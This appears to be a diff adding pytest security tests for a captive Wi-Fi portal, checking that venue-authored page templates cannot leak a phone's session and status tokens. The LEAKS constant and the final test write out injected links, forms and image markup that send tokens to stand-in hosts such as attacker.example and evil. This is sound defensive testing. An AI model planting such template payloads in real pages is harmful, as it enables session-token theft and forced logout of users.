@@ -1,0 +1,125 @@
+"""Venue templates never see the phone's tokens: they are written into our forms after rendering.
+
+An attack run published a status page with
+``<a href="https://attacker.example/collect?s={{ s }}&c={{ c }}">``:
+the link carried the phone's real status token, and from another address with no cookies
+``POST /portal/logout s=<token>`` logged the phone out (the AC's address check off). Now venue
+code gets per-render sentinels; the real token is put only into our hidden inputs and into exact
+copies of the links we hand out (``portal.web.late_tokens``). Real HTTP against the app, the AC
+simulator, RADIUS and Redis; the pages are published through the page store's publish check.
+"""
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from portal.pages import default_source
+from portal.web import services
+from portal.web.late_tokens import hide_tokens
+from tests.e2e.stack import Stack, phone, running_stack, stack_app, wait_for
+from tests.security.phone_http import Client, serve
+from tests.security.test_phone_flow import device, land, redirect
+
+LEAKS = ('<a id="x1" href="https://attacker.example/collect?s={{ s }}&c={{ c }}&t={{ ticket }}">x</a>'
+         '<a id="x2" href="https://attacker.example/{{ lang_url }}">x</a>'
+         '<a id="x3" href="{{ lang_url }}" title="{{ s }}{{ c }}">x</a>'
+         '<img id="x4" alt="{{ s }}{{ c }}"><p id="x5">{{ s }}|{{ c }}|{{ s|reverse }}|{{ lang_url }}</p>'
+         '<form action="https://attacker.example/f"><input name="s" value="{{ s }}" form="other"></form>'
+         '<a id="x6" href="https://attacker.example/?{{ status_url }}">x</a>')
+
+
+def with_leaks(page: str) -> str:
+    source = default_source(page)
+    return source.replace("{% block body %}", "{% block body %}" + LEAKS, 1)
+
+
+@pytest.fixture
+def nat(redis_client: Any, redis_url: str, data_dir: Path) -> Iterator[tuple[Stack, str]]:
+    """The AC's address check off (as in the report): only the token stands for the phone."""
+    with running_stack(redis_client, redis_url, data_dir, client_address_check=False) as stack, \
+            serve(stack) as base:
+        app = stack_app(stack)
+        for page in ("login", "success", "status"):
+            services(app).pages.publish(stack.venues.get("library"), page, "mallory",
+                                                     source=with_leaks(page))
+        yield stack, base
+
+
+def leaked(html: str, tokens: list[str]) -> list[str]:
+    """Tokens found anywhere but our own forms' hidden inputs and our own links."""
+    ours = re.sub(r'<input type="hidden" name="(?:c|s|ticket)" value="[^"]*">', "", html)
+    ours = re.sub(r'<a id="lang" href="[^"]*">', "", ours)
+    ours = re.sub(r"<LoginURL>http://127\.0\.0\.1:\d+/portal/wispr\?c=[^<]*</LoginURL>", "", ours)
+    ours = re.sub(r'<a[^>]* href="/portal/status\?s=[^"]*"[^>]*>', lambda m: "" if "x" not in m.group(0)[:8]
+                  else m.group(0), ours)
+    return [t for t in tokens if t and (t in ours or t[::-1] in ours)]
+
+
+def test_a_venue_page_cannot_copy_the_phones_tokens_into_a_link(nat: tuple[Stack, str]) -> None:
+    stack, base = nat
+    ip, mac = device(20)
+    browser = Client(base, ip)
+    landing, c = land(browser, redirect(stack, base, ip, mac))
+    assert 'id="x1"' in landing.text, "the venue page was not served"
+    assert len(c) > 40 and leaked(landing.text, [c]) == []
+    assert "attacker.example/collect?s=&c=&t=\"" in landing.text
+    browser.post("/portal/code", {"c": c, "phone": phone(20)})
+    done = browser.post("/portal/login", {"c": c, "phone": phone(20), "code": stack.last_code(phone(20))})
+    assert done.success
+    link = re.search(r'href="(/portal/status\?s=[^"]+)"', done.text)
+    assert link, "the success page lost our status link"
+    status = browser.get(link.group(1).replace("&amp;", "&"))
+    ours = re.search(r'<input type="hidden" name="s" value="([^"]+)">', status.text)
+    s = ours.group(1) if ours else ""
+    assert len(s) > 40 and 'id="x1"' in status.text
+    assert leaked(status.text, [s, c]) == [] and leaked(done.text, [s, c]) == []
+    # The attacker, from another address and without cookies, has nothing to log the phone out with.
+    attacker = Client(base, "127.0.99.9", keep_cookies=False)
+    for token in re.findall(r"[?&;]s=([^&\"']*)", status.text + done.text):
+        if token != s:
+            assert attacker.post("/portal/logout", {"s": token}).status in (400, 403)
+    assert wait_for(lambda: stack.journey.sessions.by_phone(phone(20)))
+    # Our own form still works from the phone.
+    out = browser.post("/portal/logout", {"s": s, "lang": "zh"})
+    assert out.status == 200 and "您已下线" in out.text
+
+
+def test_origin_null_is_refused_on_scripted_requests(nat: tuple[Stack, str]) -> None:
+    """A sandboxed frame or ``data:`` page fetching our endpoints sends ``Origin: null``."""
+    stack, base = nat
+    ip, mac = device(21)
+    browser = Client(base, ip)
+    _, c = land(browser, redirect(stack, base, ip, mac))
+    scripted = {"Origin": "null", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Site": "cross-site"}
+    page = browser.post("/portal/code", {"c": c, "phone": phone(21)}, headers=scripted)
+    assert page.error_code == "foreign_request"
+    page = browser.post("/portal/logout", {"s": "x" * 60}, headers=scripted)
+    assert page.error_code == "foreign_request"
+    # Our venue pages are sandboxed: their form navigations send Origin null and still work.
+    form = {"Origin": "null", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "cross-site"}
+    assert browser.post("/portal/code", {"c": c, "phone": phone(21)}, headers=form).status == 200
+
+
+def test_hidden_tokens_are_bound_only_where_they_are_ours() -> None:
+    token = "T" * 48
+    context, late = hide_tokens({"s": token, "lang_url": f"/portal/status?s={token}&lang=en",
+                                 "urls": {"logout": "/portal/logout"}})
+    sentinel = context["s"]
+    assert token not in repr(context)
+    html = (f'<form action="/portal/logout"><input type="hidden" name="s" value="{sentinel}"></form>'
+            f'<a href="/portal/status?s={sentinel}&amp;lang=en">zh</a>'
+            f'<input name="s" value="{sentinel}" form="ours"><form id="ours" action="/portal/logout"></form>'
+            f'<form action="https://evil/"><input name="s" value="{sentinel}"></form>'
+            f'<input name="s" value="{sentinel}" form="evil"><form id="evil" action="https://evil/"></form>'
+            f'<input name="s" value="{sentinel}">'
+            f'<a href="https://evil/?s={sentinel}">x</a><a href="/portal/status?s={sentinel}&amp;lang=en" '
+            f'ping="{sentinel}">y</a><input name="c" value="{sentinel}"><!-- {sentinel} --><p>{sentinel}</p>')
+    bound = late.bind(html)
+    assert bound.count(token) == 3 and "cwlate" not in bound, bound
+    assert f'action="/portal/logout"><input type="hidden" name="s" value="{token}">' in bound
+    assert f'href="/portal/status?s={token}&amp;lang=en">zh' in bound
+    assert f'value="{token}" form="ours"' in bound
